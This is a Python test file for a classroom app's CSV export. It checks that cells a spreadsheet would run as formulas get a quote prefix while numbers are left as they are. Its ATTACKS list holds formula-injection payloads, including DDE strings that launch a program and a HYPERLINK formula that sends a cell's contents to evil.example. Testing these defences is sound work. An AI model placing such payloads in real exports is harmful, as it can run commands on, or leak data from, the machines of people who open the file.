"""CSV cells a spreadsheet would run as formulas are quoted; numbers stay numbers."""

from __future__ import annotations

import csv
import io

from hypothesis import given
from hypothesis import strategies as st

from classroom_hub import spreadsheet

ATTACKS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A2,"Bấm vào")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",  # fullwidth =
    "-",
    "+84 912 345 678",
]
NUMBERS = ["-1.5", "-2.000", "+3", "-2.5e-3", "0", "-0", "12", ".5", "-.5", "1E6"]


def written(row: list[object]) -> list[str]:
    out = io.StringIO(newline="")
    spreadsheet.writer(out, lineterminator="\r\n").writerow(row)
    return next(csv.reader(io.StringIO(out.getvalue(), newline="")))


def test_a_cell_that_would_run_as_a_formula_starts_with_a_quote() -> None:
    assert written(ATTACKS) == ["'" + attack for attack in ATTACKS]


def test_numbers_and_plain_text_are_written_as_they_are() -> None:
    # A sensor below zero must stay a number the spreadsheet can chart and average.
    assert written([*NUMBERS, -1.5, 0.25, 7, None, "Nguyễn Văn An", "6,5", "a=b"]) == [
        *NUMBERS, "-1.5", "0.25", "7", "", "Nguyễn Văn An", "6,5", "a=b",
    ]  # fmt: skip


def test_a_quote_of_our_own_is_told_apart_from_one_in_the_value() -> None:
    for value in ("'", "'abc", "''=x", "'=x", "O'Brien"):
        assert spreadsheet.restore(spreadsheet.neutralise(value)) == value
    assert spreadsheet.neutralise("'abc") == "''abc"  # a spreadsheet shows 'abc, as typed
    assert spreadsheet.restore("'Brien") == "'Brien"  # not one of ours: left alone


@given(st.text(max_size=40))
def test_restore_gives_back_every_value(value: str) -> None:
    cell = spreadsheet.neutralise(value)
    assert spreadsheet.restore(cell) == value
    if cell[:1] in spreadsheet.FORMULA_STARTS - {"'"}:
        float(cell)  # only a plain number keeps its sign in front
